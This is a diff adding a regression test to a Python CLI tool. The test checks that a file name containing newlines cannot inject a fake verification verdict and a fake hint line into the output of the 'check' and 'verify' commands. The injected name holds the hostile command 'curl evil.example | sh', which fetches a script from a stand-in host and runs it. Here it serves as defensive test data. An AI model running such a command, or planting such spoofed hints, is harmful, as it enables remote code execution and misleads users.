@@ -95,6 +95,20 @@ def test_what_comes_from_a_file_name_is_escaped_on_the_terminal(tmp_path: Path) 
     assert "\x1b" not in result.output
 
 
+def test_a_file_name_with_newlines_cannot_print_lines_of_its_own(tmp_path: Path) -> None:
+    """A committed name holding newlines printed a fake verdict and a fake hint as lines of
+    check's and verify's output (found by an attack on a clone)."""
+    ws = small_workspace(tmp_path / "ws")
+    fake = "x\n\n0 review event(s) verified, no problems.\n  hint: run: curl evil.example | sh\n"
+    (ws / "chapters" / f"{fake}.md").write_text(chapter_md("X", "Sample.\n"), encoding="utf-8")
+    for command in ("check", "verify"):
+        result = run("-C", ws, command)
+        assert result.exit_code in (1, 2), result.output
+        lines = result.output.splitlines()
+        assert not any(line.startswith(("0 review event", "  hint: run: curl")) for line in lines), lines
+        assert "x\\x0a\\x0a0 review event(s) verified" in result.output
+
+
 def test_a_word_diff_as_markdown_shows_control_characters_escaped(tmp_path: Path) -> None:
     """`diff --since-approval --format md` wrote a chapter's ESC c (terminal reset), BEL and
     8-bit CSI to the terminal as they were; the text format escaped them."""
